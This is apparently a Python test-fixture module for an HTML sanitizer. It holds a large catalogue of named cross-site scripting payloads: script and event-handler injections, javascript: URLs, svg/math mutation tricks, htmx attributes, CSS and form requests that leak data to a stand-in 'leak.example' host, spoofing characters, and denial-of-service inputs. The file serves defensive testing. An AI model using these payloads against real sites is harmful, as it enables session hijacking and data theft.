from __future__ import annotations

from enum import Enum

LEAK = "https://leak.example"


class Harm(Enum):
    """What a payload does in a bare page; the harness proves it of each."""

    RUNS = "runs script"
    ASKS = "asks another address for something"
    MOVES = "leads the reader elsewhere by itself or with one press: no policy of content stops that"
    STANDS = "stands in the page: an element, attribute or character that has no business there"


RUNS = {
    # scripts, however they are spelled
    "script": "<script>ran()</script>",
    "script in mixed case": "<ScRiPt >ran()</sCrIpT\t>",
    "script with a slash": "<script/x>ran()</script>",
    "script after a stray sign": "<<script>ran()//<</script>",
    "script from a data address": '<script src="data:text/javascript,ran()"></script>',
    "script as a module": '<script type="module">ran()</script>',
    "script behind broken quotes": '<img """><script>ran()</script>">',
    "script behind a comment that ends at once": "<!--><script>ran()</script>-->",
    "script behind a comment ended with a bang": "<!-- a --!><script>ran()</script>-->",
    "script behind an instruction": '<?xml version="1.0"?><script>ran()</script>',
    "script behind CDATA": "<![CDATA[><script>ran()</script>]]>",
    "script behind a closing tag with attributes": '</p title=">"><script>ran()</script>',
    # handlers
    "picture that fails": "<img src=x onerror=ran()>",
    "picture that fails, in capitals, over lines": "<IMG\nSRC\n=\n'x'\nONERROR\n=\n'ran()'\n>",
    "picture with slashes for spaces": '<img/src="x"/onerror=ran()>',
    "picture with an encoded handler": "<img src=x onerror=&#114;&#x61;&#110;&lpar;&rpar;>",
    "image, the old name": "<image src=x onerror=ran()>",
    "body": "<body onload=ran()>",
    "details": "<details open ontoggle=ran()>more</details>",
    "video source": "<video><source src=x onerror=ran()></video>",
    "audio": "<audio src=x onerror=ran()></audio>",
    "stylesheet that fails": "<link rel=stylesheet href=x onerror=ran()>",
    "focus by itself": "<input autofocus onfocus=ran()>",
    "focus on an unknown element": "<xx autofocus tabindex=1 onfocus=ran()>x</xx>",
    "text area": "<textarea autofocus onfocus=ran()></textarea>",
    "allowed element, press": '<p onclick="ran()">press</p>',
    "allowed element, pointer": "<strong onpointerenter=ran() onmouseover=ran()>here</strong>",
    "allowed element, key word glued": '<em/onmouseover="ran()">here</em>',
    "allowed link with a handler": '<a href="https://example.org/" onmouseover="ran()">here</a>',
    "animation": "<style>@keyframes x{to{top:0}}</style><p style='animation:x 1ms' onanimationstart=ran()>x</p>",
    "pop-over": "<button popovertarget=x>press</button><div popover id=x onbeforetoggle=ran()>x</div>",
    "shadow root": "<div><template shadowrootmode=open><img src=x onerror=ran()></template></div>",
    # addresses that are programs
    "javascript address": '<a href="javascript:ran()">press</a>',
    "javascript address, mixed case, spaces": '<a href="  JaVaScRiPt:ran()">press</a>',
    "javascript address, entities": '<a href="&#106;&#x61;vascript&colon;ran()">press</a>',
    "javascript address, entities without semicolons": '<a href="&#0000106avascript:ran()">press</a>',
    "javascript address, tab": '<a href="java&#9;script:ran()">press</a>',
    "javascript address, raw tab and line end": '<a href="java\tscri\npt:ran()">press</a>',
    "javascript address, named line end": '<a href="javascript&NewLine;:ran()">press</a>',
    "javascript address, control character before": '<a href="&#1;javascript:ran()">press</a>',
    "javascript address with a comment like an address": '<a href="javascript://example.org/%0aran()">press</a>',
    "javascript address in single quotes": "<a href='javascript:ran(\"x\")'>press</a>",
    "javascript address, no quotes, second href": "<a href=javascript:ran() href=https://example.org/>press</a>",
    "form": '<form action="javascript:ran()"><input type=submit value=press></form>',
    "button with an action": '<form id=f></form><button form=f formaction="javascript:ran()">press</button>',
    "input with an action": '<form><input type=image src=x formaction="javascript:ran()" alt=press></form>',
    "image button": "<input type=image src=x onerror=ran()>",
    "frame": '<iframe src="javascript:parent.ran()"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
    "frame with an encoded document": '<iframe srcdoc="&lt;script&gt;parent.ran()&lt;/script&gt;"></iframe>',
    "frame from a data address": '<iframe src="data:text/html,<script>ran()</script>"></iframe>',
    "object": '<object data="data:text/html,<script>ran()</script>"></object>',
    "embed": '<embed src="data:text/html,<script>ran()</script>">',
    # other namespaces, and elements whose inside is read differently the second time
    "svg": "<svg onload=ran()>",
    "svg script": "<svg><script>ran()</script></svg>",
    "svg script by address": '<svg><script href="data:text/javascript,ran()"></script></svg>',
    "svg link": '<svg><a xlink:href="javascript:ran()"><text x="9" y="9">press</text></a></svg>',
    "svg animation": "<svg><animate onbegin=ran() attributeName=x dur=1s></svg>",
    "svg with a style that closes early": '<svg></p><style><a title="</style><img src=x onerror=ran()>">',
    "svg with a title": '<svg><title><img src=x onerror=ran()></title></svg>',
    "svg foreign object": "<svg><foreignObject><img src=x onerror=ran()></foreignObject></svg>",
    "math that leaves its form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=ran()>",
    "math with a style": "<math><mi><style><img src=x onerror=ran()></style></mi></math>"
    "<math><annotation-xml encoding='text/html'><img src=x onerror=ran()></annotation-xml></math>",
    "style that closes in an attribute": '<style><a title="</style><img src=x onerror=ran()>"></a>',
    "title that closes in an attribute": '<title><a title="</title><img src=x onerror=ran()>"></a>',
    "text area that closes in an attribute": '<textarea><a title="</textarea><img src=x onerror=ran()>"></a>',
    "noscript that closes in an attribute": '<noscript><p title="</noscript><img src=x onerror=ran()>"></p>',
    "noembed, noframes and xmp": '<noembed><b title="</noembed><noframes></noframes><xmp></xmp><img src=x onerror=ran()>"></b>',
    "comment that closes in an attribute": '<!-- <a title="--><img src=x onerror=ran()>"></a>',
    "table that throws its words out": "<table><tr><td></td><img src=x onerror=ran()></tr></table>",
    # behind what we write ourselves
    "address with a tag behind it": 'https://example.org/"><img src=x onerror=ran()>',
    "address inside a tag's attribute": "<img src=x alt=https://example.org/ onerror=ran()>",
    "quote and list with a tag": "> quoted <img src=x onerror=ran()>\n- an entry",
    "bold that holds a tag": "**<img src=x onerror=ran()>**",
    "link in signs that holds a tag": "[<img src=x onerror=ran()>](https://example.org/)",
    # the attributes by which htmx runs things
    "htmx handler": '<div hx-on:click="ran()">press</div>',
    "htmx handler, data form": '<p data-hx-on:click="ran()">press</p>',
    "htmx handler on an allowed link": '<a href="https://example.org/#" hx-on:click="ran()">press</a>',
}

ASKS = {
    "picture elsewhere": f"<img src={LEAK}/p.png>",
    "picture set": f'<img srcset="{LEAK}/p.png 1x">',
    "picture among sources": f'<picture><source srcset="{LEAK}/p.png"><img></picture>',
    "poster": f"<video poster={LEAK}/p.png></video>",
    "track and video": f"<video src={LEAK}/v.mp4></video>",
    "svg picture": f'<svg><image href="{LEAK}/p.png" width=9 height=9 /></svg>',
    "background of a table": f"<table background={LEAK}/t.png><tr><td>x</td></tr></table>",
    "style with an address": f'<p style="background:url({LEAK}/b.png)">x</p>',
    "style with an escaped address": f'<p style="background:u\\72l({LEAK}/b.png)">x</p>',
    "stylesheet elsewhere": f"<link rel=stylesheet href={LEAK}/s.css>",
    "import of styles": f'<style>@import "{LEAK}/i.css";</style>',
    "styles that read a field": f'<input value=ab><style>input[value^=a]{{background:url({LEAK}/a)}}</style>',
    "font": f"<style>@font-face{{font-family:x;src:url({LEAK}/f.woff)}}p{{font-family:x}}</style><p>x</p>",
    "base address": f'<base href="{LEAK}/"><img src=p.png>',
    "object elsewhere": f"<object data={LEAK}/o></object>",
    "embed elsewhere": f"<embed src={LEAK}/e>",
    "frame elsewhere": f"<iframe src={LEAK}/f></iframe>",
    "preload": f'<link rel=preload as=image href={LEAK}/p.png>',
    "ping": f'<a href="#here" ping="{LEAK}/ping">press</a>',
    "form elsewhere": f"<form action={LEAK}/><input name=code value=123456><button>press</button></form>",
    "script elsewhere": f"<script src={LEAK}/s.js></script>",
    "htmx request": f'<div hx-get="{LEAK}/x" hx-trigger="load">x</div>',
    "htmx request, data form": f'<p data-hx-get="{LEAK}/x" data-hx-trigger="load">x</p>',
    "htmx request on an allowed element": f'<strong hx-get="{LEAK}/x">x</strong>',
}

MOVES = {
    "refresh": f'<meta http-equiv="refresh" content="0;url={LEAK}/">',
    "frameless target": f'<svg><a href="{LEAK}/"><text x="9" y="9">press</text></a></svg>',
    "map over the page": f'<img usemap=#m><map name=m><area href="{LEAK}/" shape=default></map>',
    "base that opens links elsewhere": f'<base target=_blank><form method=dialog></form><a href="{LEAK}/" target=_top>press</a>',
}

# payload and what finds it in a bare page: a selector, or a character of the text
STANDS = {
    "css expression": ('<p style="width:expression(ran())">x</p>', "[style]"),
    "css behavior": ('<p style="behavior:url(x.htc);-moz-binding:url(x.xml#x)">x</p>', "[style]"),
    "cover over the page": ('<div style="position:fixed;inset:0;z-index:9">x</div>', "div[style]"),
    "our own classes": ('<p class="badge-staff notice">Coalition staff</p>', "[class]"),
    "names that shadow the page's": ("<form name=body><input name=attributes id=cookie></form>", "form[name], input[id]"),
    "names on allowed elements": ('<a id=config name=ran href="https://example.org/">x</a>', "a[id], a[name]"),
    "behaviors of our own scripts": ('<p data-keep="x" data-controller="x" data-action="x">x</p>', "[data-keep]"),
    "roles and labels": ('<p role="alert" aria-label="x" tabindex="0" contenteditable accesskey="s">x</p>', "[role]"),
    "image of the guide by number": ('<embed embedtype="image" id="1" format="left" alt="x">', "embed"),
    "page of the guide by number": ('<a linktype="page" id="1">x</a>', "[linktype]"),
    "document of the guide by number": ('<a linktype="document" id="1" href="https://example.org/">x</a>', "[linktype]"),
    "data address": ('<a href="data:text/html,<script>ran()</script>">x</a>', 'a[href^="data:"]'),
    "vbscript address": ('<a href="vbscript:ran()">x</a>', 'a[href^="vbscript:"]'),
    "file address": ('<a href="file:///etc/passwd">x</a>', 'a[href^="file:"]'),
    "view-source address": ('<a href="view-source:javascript:ran()">x</a>', 'a[href^="view-source:"]'),
    "blob address": ('<a href="blob:https://example.org/1">x</a>', 'a[href^="blob:"]'),
    "address without a scheme": ('<a href="//leak.example/x">x</a>', 'a[href^="//"]'),
    "address on our own site": ('<a href="/accounts/logout/">x</a>', 'a[href^="/acc"]'),
    "address with a name before the host": ('<a href="https://example.org@leak.example/">x</a>', 'a[href*="@"]'),
    "address with a backslash": ('<a href="https:\\\\leak.example/">x</a>', "a[href]"),
    "address that breaks its quotes": ("<a href='https://example.org/\"onmouseover=\"ran()'>x</a>", "a[href*='\"']"),
    "address with a line end and a handler": ('<a href="https://example.org/\n onclick=ran()">x</a>', 'a[href*="onclick"]'),
    "mail address with more than an address": ('<a href="mailto:a@example.org?bcc=b@example.org&body=x">x</a>', 'a[href*="bcc"]'),
    "opener": ('<a href="https://example.org/" target="_blank" rel="opener follow">x</a>', '[rel~="opener"]'),
    "sponsored picture credit": ('<a href="https://example.org/" download referrerpolicy="unsafe-url">x</a>', "a[download]"),
    "template": ("<template><img src=x onerror=ran()></template>", "template"),
    "dialog": ("<dialog open>Your session ended. <input type=password></dialog>", "dialog"),
    "slot and part": ('<p slot="x" part="x" is="x-y" itemprop="x">x</p>', "[slot]"),
    "svg use": ('<svg><use href="data:image/svg+xml,<svg id=x></svg>#x"></use></svg>', "use"),
    "svg that sets an address": ('<svg><a id=a><set attributeName="href" to="javascript:ran()" /></a></svg>', "set"),
    "math link": ('<math><mi href="javascript:ran()">x</mi></math>', "math"),
    "list nested past sense": ("<blockquote>" * 90 + "x", "blockquote " * 20 + "blockquote"),
    "right-to-left override": ("invoice \u202egpj.exe", "\u202e"),
    "right-to-left override, encoded": ("<p>invoice &#x202e;gpj.exe</p>", "\u202e"),
    "isolates left open": ("\u2066\u2067 words <b>&#x2068;</b>", "\u2066"),
    "letters of no width": ("pass\u200bword &#8203; \u2060\ufeff <b>x</b>", "\u200b"),
    "accents without end": ("<p>Z" + "\u0335\u0337" * 400 + "</p>", "\u0335\u0337" * 20),
    "tags in unassigned characters": ("<p>\ufdd0\uffff\U0001fffe</p>", "\uffff"),
}

# Harmless as they stand; a careless cleaner that strips, joins or decodes once too often makes them harmful.
LATENT = {
    "tag left when a tag is taken out": "<scr<script></script>ipt>ran()</scr</script>ipt>",
    "tag left when an allowed tag is taken out": "<<b>script>ran()<<b>/script>",
    "tag left when a comment is taken out": "<scr<!-- -->ipt>ran()</scr<!-- -->ipt>",
    "encoded script": "&lt;script&gt;ran()&lt;/script&gt;",
    "script encoded twice": "<p>&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;</p>",
    "encoded tag in an attribute": '<p title="&lt;img src=x onerror=ran()&gt;">x</p>',
    "encoded tag in an address": '<a href="https://example.org/?&quot;&gt;&lt;img src=x onerror=ran()&gt;">x</a>',
    "encoded embed": "&lt;embed embedtype=&quot;image&quot; id=&quot;1&quot;&gt;",
    "embed in a quotation": "> <embed embedtype='image' id='1'>\n>\n> — <embed id=1>, <embed id=2>",
    "signs of full width": "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "sign and accent that melt together": "<p>a>\u0338 <b>\u0338x</b> =\u0338</p>",
    "seven-bit encoding": "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "unclosed tag": "<img src=x onerror=ran() ",
    "unclosed attribute": '<a href="https://example.org/><img src=x onerror=ran()>',
    "backquotes": "<b title=`<img src=x onerror=ran()>`",
    "template braces": "{{constructor.constructor('ran()')()}} ${ran()} {% load x %}",
    "address in an address": '<a href="https://example.org/<a href=javascript:ran()>">x</a>',
    "javascript behind www": "www.javascript:ran() https://javascript:ran() [x](javascript:ran())",
    "link in signs with quotes": '[x](https://example.org/"onmouseover="ran())',
}

REFUSED = {
    "NUL in a tag": "<scr\0ipt>ran()</scr\0ipt>",
    "NUL in a handler": "<img src=x on\0error=ran()>",
    "NUL in an address": '<a href="java\0script:ran()">press</a>',
    "half a character": "<p>\ud83d</p>",
    "half a character, the other way": "words \udc80 words",
    "tags without end": "<b>" * 2_500,
    "tags within each other, 10,000 deep": "<blockquote>" * 10_000,
    "lists within each other": "<ul><li>" * 900,
    "marks within each other": "<i><b>" * 900 + "<p>x" * 100,
    "a book": "a" * 1_000_000,
    "signs without words": "<" * 15_000 + "p>",
}

PAYLOADS: dict[str, tuple[str, Harm]] = {
    **{name: (source, Harm.RUNS) for name, source in RUNS.items()},
    **{name: (source, Harm.ASKS) for name, source in ASKS.items()},
    **{name: (source, Harm.MOVES) for name, source in MOVES.items()},
    **{name: (source, Harm.STANDS) for name, (source, _sign) in STANDS.items()},
}
SIGNS = {name: sign for name, (_source, sign) in STANDS.items()}
